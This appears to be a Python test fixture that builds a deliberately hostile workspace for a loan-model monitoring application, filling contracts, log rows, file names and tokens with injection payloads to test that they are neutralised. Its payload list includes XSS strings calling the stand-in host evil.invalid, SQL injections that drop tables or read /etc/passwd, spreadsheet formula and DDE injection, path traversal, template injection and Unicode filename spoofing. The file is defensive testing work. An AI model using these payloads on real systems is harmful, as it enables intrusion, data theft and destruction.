"""A workspace whose every text is an attack: log, contract, file names, quarantine.

What a browser would run, what Markdown would fetch, what SQL would execute, what a spreadsheet
would calculate, what a path would climb, what a template would fill in.
"""

from dataclasses import dataclass
from pathlib import Path
from typing import Any

import yaml

from core.bootstrap import create_workspace
from core.config import Settings
from core.domain.identity import Role
from core.services import ingest
from core.services.identity import users
from core.services.registry import models as registry
from core.services.serving import tokens
from core.services.workspace import Workspace
from tests.support.builders import (
    FIRST,
    a_row,
    contract_document,
    outcome_rows,
    write_csv,
    write_parquet,
)
from tests.support.harbour import OWNER_LOGIN

MODEL = "loans"
EVIL = "evil.invalid"  # a name that never resolves; asking for it is what is looked for
PAYLOADS = (
    "<script>window.__owned=1</script>",
    f"<img src=x onerror=\"window.__owned=1;fetch('https://{EVIL}/x')\">",
    f"<svg onload=window.__owned=1><image href=https://{EVIL}/s.svg></svg>",
    f"![x](https://{EVIL}/pixel.png)",
    "[click](javascript:window.__owned=1)",
    f"</style><link rel=stylesheet href=https://{EVIL}/a.css>",
    f"<iframe src=https://{EVIL}/></iframe>",
    "javascript:window.__owned=1",
    "'; DROP TABLE audit_entry; --",
    "\" OR 1=1 UNION SELECT * FROM read_text('/etc/passwd') --",
    "$$; COPY (SELECT 1) TO '/var/owned.csv'; --",
    "=HYPERLINK(\"https://evil.invalid\",\"x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "../../../../state.db",
    "{0.__class__.__mro__} {template} %(user)s ${HOME}",
    ":material/warning: :red[x] $\\href{javascript:alert(1)}{x}$ `code`",
    "\u202egpj.exe\u0000\u2028",
)  # fmt: skip


@dataclass(frozen=True)
class Hostile:
    """The workspace, and user name and password of each role's person."""

    workspace: Workspace
    log_ins: dict[Role, tuple[str, str]]


def payload(number: int) -> str:
    """Return an attack, each in turn."""
    return PAYLOADS[number % len(PAYLOADS)]


def a_hostile_contract() -> dict[str, Any]:
    """Return a contract whose texts and column names are attacks."""
    log = {**contract_document()["log"], "jurisdiction": payload(8)}
    return contract_document(
        name=dict(zip(("en", "zh-HK", "zh-CN"), PAYLOADS[:3], strict=True)),
        owner=payload(3),
        purpose=payload(1),
        log=log,
        features=[
            {"name": "loan amount", "type": "numeric", "label": payload(3), "unit": payload(0)},
            {"name": "industry", "type": "categorical", "label": payload(4)},
            {"name": payload(9), "type": "numeric"},
            {"name": payload(0), "type": "categorical"},
        ],
        segments=["industry", {"name": payload(6), "from": "branch"}],
        versions=[{"id": payload(1), "oversight_level": "in_the_loop"}, {"id": "2"}],
    )


def hostile_rows(count: int) -> list[dict[str, Any]]:
    """Return rows of the log, each text an attack."""
    return [
        a_row(
            number,
            loan_id=f"{number}{payload(number)}",
            model_version=payload(1) if number % 2 else "2",
            decision=payload(number),
            status="ok" if number % 5 else payload(number),
            branch=payload(number + 3),
            industry=payload(number % 6),
            sex=payload(number + 1),
            **{payload(8): payload(number % 4), payload(9): float(number), payload(0): payload(2)},
        )
        for number in range(count)
    ]


def a_hostile_workspace(home: Path) -> Hostile:
    """Build it through the services, as an attacker who may write logs would."""
    workspace = create_workspace(Settings(home, f"sqlite:///{home / 'state.db'}", threads=2))
    owner = users.actor_of_os_login(workspace, OWNER_LOGIN)
    inbox = home.parent / f"{home.name}-inbox"
    inbox.mkdir()
    spec = inbox / "model.yaml"
    spec.write_text(yaml.safe_dump(a_hostile_contract(), allow_unicode=True), encoding="utf-8")
    registry.register_model(workspace, spec, actor=owner)
    name = "<img src=x onerror=window.__owned=1>'; --.parquet"
    rows = hostile_rows(400)
    ingest.ingest_files(workspace, MODEL, [write_parquet(inbox / name, rows)], actor=owner)
    known = [
        {**row, "loan_id": rows[number]["loan_id"]}
        for number, row in enumerate(outcome_rows(range(200)))
    ]
    ingest.ingest_files(
        workspace, MODEL, [write_parquet(inbox / "outcomes.parquet", known)],
        stream="outcomes", actor=owner,
    )  # fmt: skip
    refused: list[dict[str, Any]] = [
        {"loan_id": f"R{n}", "approved_at": text, "score": text, "loan amount": text}
        for n, text in enumerate(PAYLOADS)
        if "," not in text and "\u2028" not in text
    ]
    refused.append({"loan_id": "R99", "approved_at": FIRST, "score": 0.5, "loan amount": 1.0})
    whole = [{**dict.fromkeys(rows[0], ""), **row} for row in refused]
    path = write_csv(inbox / "![x](https:--evil.invalid).csv", whole, separator="\t")
    ingest.ingest_files(workspace, MODEL, [path], actor=owner)
    tokens.make_token(workspace, payload(1), actor=owner)
    people = users.make_demo_users(workspace, actor=owner)
    return Hostile(workspace, {p.role: (p.username, p.password) for p in people})
